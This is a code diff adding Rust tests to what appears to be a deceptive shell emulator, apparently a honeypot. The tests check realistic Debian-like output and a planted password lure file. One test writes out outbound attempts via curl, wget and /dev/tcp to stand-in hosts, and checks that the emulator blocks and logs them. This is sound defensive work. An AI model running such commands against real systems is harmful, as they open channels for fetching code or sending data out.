@@ -162,6 +162,64 @@ const LINES: &[(&str, &str, &str, i32)] = &[
 ];
 
 #[test]
+fn a_listing_has_the_form_of_gnu() {
+    let (mut shell, _) = shell();
+    let (out, _, _) = run(&mut shell, "ls -ld /home /tmp /bin /dev/null; ls -la ~ | head -4", &[]);
+    let lines: Vec<&str> = out.lines().collect();
+    assert!(lines[0].starts_with("lrwxrwxrwx 1 root root    7 Mar 18  2024 /bin -> usr/bin"), "{out}");
+    assert!(lines[1].starts_with("crw-rw-rw- 1 root root 1, 3 "), "{out}");
+    assert!(lines[2].starts_with("drwxr-xr-x 3 root root 4096 "), "{out}");
+    assert!(lines[3].starts_with("drwxrwxrwt 2 root root 4096 "), "{out}");
+    assert_eq!(lines[4], "total 28");
+    assert!(lines[5].starts_with("drwx------ 2 hisop hisop 4096 ") && lines[5].ends_with(" ."), "{out}");
+}
+
+#[test]
+fn what_the_machine_tells_of_itself_agrees() {
+    let (mut shell, _) = shell();
+    let mut say = |line: &str| run(&mut shell, line, &[]).0;
+    let boot: i64 = say("awk '/btime/ {print $2}' /proc/stat").trim().parse().unwrap();
+    let up: f64 = say("cut -d' ' -f1 /proc/uptime").trim().parse().unwrap();
+    let now = super::stand_in::now().as_second();
+    assert_eq!(now - boot, up.trunc().to_string().parse::<i64>().unwrap());
+    assert_eq!(
+        say("date -d @$(grep btime /proc/stat | cut -c7-) '+%Y-%m-%d %H:%M'").trim(),
+        say("who -b").trim().trim_start_matches("system boot").trim()
+    );
+    assert_eq!(say("free | awk '/Mem/ {print $2}'"), say("awk '/MemTotal/ {print $2}' /proc/meminfo"));
+    assert_eq!(
+        say("cat /sys/class/net/ens192/address").trim(),
+        say("ip link | awk '/ether/ {print $2}' | tail -1").trim()
+    );
+    assert!(
+        say("cat ~/portal.txt").contains(&say("grep 密码 ~/portal.txt | awk '{print $2}'").trim().to_owned())
+    );
+    assert!(say("df -h /").starts_with("Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1       "));
+}
+
+#[test]
+fn what_would_leave_is_told_and_fails() {
+    use crate::event::Observation;
+    let (mut shell, kept) = shell();
+    assert_eq!(run(&mut shell, "curl -s http://example.com/x", &[]).2, 6);
+    assert_eq!(run(&mut shell, "wget -q http://10.1.2.3/x", &[]).2, 4);
+    assert_eq!(run(&mut shell, "echo x > /dev/tcp/10.1.2.3/4444", &[]).2, 1);
+    let events = kept.events.lock().unwrap();
+    let told: Vec<_> = events
+        .iter()
+        .filter_map(|o| match o {
+            Observation::Tunnel { means, target, relayed: false } => {
+                Some((means.clone(), target.as_untrusted().to_owned()))
+            }
+            _ => None,
+        })
+        .collect();
+    let want =
+        [("curl", "http://example.com/x"), ("wget", "http://10.1.2.3/x"), ("/dev/tcp", "10.1.2.3:4444")];
+    assert_eq!(told, want.map(|(m, t)| (m.to_owned(), t.to_owned())));
+}
+
+#[test]
 fn lines_print_what_debian_prints() {
     let mut wrong = Vec::new();
     for (line, out, error, status) in LINES {
